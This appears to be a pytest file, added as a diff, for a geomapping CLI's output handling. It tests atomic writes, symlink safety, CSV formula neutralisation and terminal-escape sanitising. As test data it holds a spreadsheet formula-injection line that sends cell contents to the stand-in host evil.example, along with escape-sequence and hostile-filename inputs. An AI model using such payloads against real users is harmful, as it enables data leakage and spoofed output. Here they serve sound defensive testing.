@@ -1,0 +1,189 @@
+"""Outputs are all-or-nothing, never written through a planted link, never shared by two runs."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import signal
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from geomap.cli import _register, app
+from geomap.errors import OutputError
+from geomap.io.outputs import KNOWN_FILES, write_outputs
+from geomap.outdir import MARKER, OutputDir
+from geomap.run import RunResult
+
+pytestmark = pytest.mark.model
+ROOT = Path(__file__).resolve().parents[1]
+
+
+def _snapshot(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}
+
+
+def _cli(*args: str) -> object:
+    _register()
+    return CliRunner().invoke(app, list(args))
+
+
+@pytest.fixture
+def previous(seed_result: RunResult, tmp_path: Path) -> Path:
+    """An output folder holding a complete earlier run."""
+    out = tmp_path / "out"
+    write_outputs(seed_result, out, title="earlier run")
+    return out
+
+
+def test_outputs_replace_the_folder_as_a_whole(previous: Path) -> None:
+    files = _snapshot(previous)
+    assert set(files) == set(KNOWN_FILES) | {MARKER}
+    assert json.loads(files[MARKER])["files"] == sorted(KNOWN_FILES)
+    assert not list(previous.parent.glob(".out.geomap-tmp-*"))
+
+
+def test_failed_write_leaves_previous_outputs(
+    previous: Path, seed_result: RunResult, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = _snapshot(previous)
+    import geomap.io.outputs as outputs
+
+    def full_disk(*args: object, **kwargs: object) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(outputs, "write_report", full_disk)
+    with pytest.raises(OutputError, match="No space left on device"):
+        write_outputs(seed_result, previous, title="new run")
+    assert _snapshot(previous) == before
+    assert not list(previous.parent.glob(".out.geomap-tmp-*"))
+
+
+def test_kill_9_while_writing_leaves_previous_outputs(previous: Path) -> None:
+    before = _snapshot(previous)
+    script = textwrap.dedent(
+        f"""
+        import os, signal
+        from pathlib import Path
+        import geomap.io.outputs as outputs
+        from geomap.run import geoparse_inputs
+
+        def die(*args, **kwargs):
+            os.kill(os.getpid(), signal.SIGKILL)
+
+        outputs.write_report = die  # killed after every other file was written
+        outputs.write_outputs(geoparse_inputs([{str(ROOT / "seeds")!r}]), Path({str(previous)!r}))
+        """
+    )
+    proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, timeout=300)
+    assert proc.returncode == -signal.SIGKILL
+    assert _snapshot(previous) == before
+    # the next run cleans up what the killed one left beside the folder
+    assert list(previous.parent.glob(".out.geomap-tmp-*"))
+    with OutputDir(previous, KNOWN_FILES):
+        pass
+    assert not list(previous.parent.glob(".out.geomap-tmp-*"))
+
+
+def test_run_with_no_usable_input_replaces_nothing(previous: Path, tmp_path: Path) -> None:
+    before = _snapshot(previous)
+    result = _cli("map", str(tmp_path / "no-such-file.txt"), "-o", str(previous), "-q")
+    assert result.exit_code == 1
+    assert "no input could be processed" in result.output
+    assert _snapshot(previous) == before
+
+
+def test_second_run_into_a_locked_folder_refuses(previous: Path) -> None:
+    before = _snapshot(previous)
+    with OutputDir(previous, KNOWN_FILES):
+        result = _cli("map", str(ROOT / "seeds"), "-o", str(previous), "-q")
+    assert result.exit_code == 2
+    assert "another geomap run is writing to this folder" in result.output
+    assert _snapshot(previous) == before
+
+
+def test_symlink_planted_in_the_output_folder_is_not_followed(
+    previous: Path, seed_result: RunResult, tmp_path: Path
+) -> None:
+    target = tmp_path / "precious.txt"
+    target.write_text("keep me", encoding="utf-8")
+    (previous / "map.html").unlink()
+    (previous / "map.html").symlink_to(target)
+    write_outputs(seed_result, previous)
+    assert target.read_text(encoding="utf-8") == "keep me"
+    assert not (previous / "map.html").is_symlink()
+    assert (previous / "map.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
+
+
+def test_output_folder_checked_before_any_parsing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import geomap.run
+
+    def never(*args: object, **kwargs: object) -> None:
+        raise AssertionError("parsed although -o is unusable")
+
+    monkeypatch.setattr(geomap.run, "geoparse_inputs", never)
+    a_file = tmp_path / "file.txt"
+    a_file.write_text("x", encoding="utf-8")
+    result = _cli("map", str(ROOT / "seeds"), "-o", str(a_file))
+    assert result.exit_code == 2 and "is a file" in result.output
+    foreign = tmp_path / "mine"
+    foreign.mkdir()
+    (foreign / "thesis.docx").write_text("x", encoding="utf-8")
+    result = _cli("map", str(ROOT / "seeds"), "-o", str(foreign))
+    assert result.exit_code == 2 and "geomap did not write" in result.output
+    assert (foreign / "thesis.docx").exists()
+    if os.geteuid() != 0:  # root writes anywhere
+        ro = tmp_path / "ro"
+        ro.mkdir(mode=0o500)
+        result = _cli("map", str(ROOT / "seeds"), "-o", str(ro / "out"))
+        assert result.exit_code == 2 and "not writable" in result.output
+
+
+def test_formula_cells_are_neutralised_in_claims_csv(tmp_path: Path) -> None:
+    src = tmp_path / "in.jsonl"
+    texts = [
+        '=HYPERLINK("http://evil.example/"&A1,"Poland") said officials in Warsaw.',
+        "+1 officials in Warsaw said Poland agreed.",
+        "-2 officials in Warsaw said Poland agreed.",
+        "@SUM(1) officials in Warsaw said Poland agreed.",
+    ]
+    rows = [{"id": f"=a{i}", "text": t} for i, t in enumerate(texts)]
+    src.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
+    result = _cli("map", str(src), "-o", str(tmp_path / "out"), "-q")
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "out" / "claims.csv").open(encoding="utf-8", newline="") as fh:
+        claims = list(csv.DictReader(fh))
+    assert claims
+    for row in claims:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert any(r["sentence"].startswith("'=HYPERLINK(") for r in claims)
+    assert {r["article"] for r in claims} <= {f"'=a{i}" for i in range(4)}
+    # JSON keeps the exact text
+    mentions = json.loads((tmp_path / "out" / "mentions.geojson").read_text(encoding="utf-8"))
+    assert {f["properties"]["article"] for f in mentions["features"]} == {
+        f"=a{i}" for i in range(4)
+    }
+
+
+def test_terminal_escapes_in_article_text_and_names_are_shown_inert(tmp_path: Path) -> None:
+    src = tmp_path / "in"
+    src.mkdir()
+    (src / "a.txt").write_text(
+        "Poland \x1b[31mwould respond\u202e, officials \x1b]0;pwned\x07in Warsaw said.",
+        encoding="utf-8",
+    )
+    (src / "evil\x1b[2J.csv").write_text("id,body\n", encoding="utf-8")
+    result = _cli("claims", str(src), "--place", "Poland")
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\x07" not in result.output
+    assert "\u202e" not in result.output
+    assert "\\u001b[31mwould respond\\u202e" in result.output
+    assert "evil\\u001b[2J.csv" in result.output  # the empty corpus is named, inertly
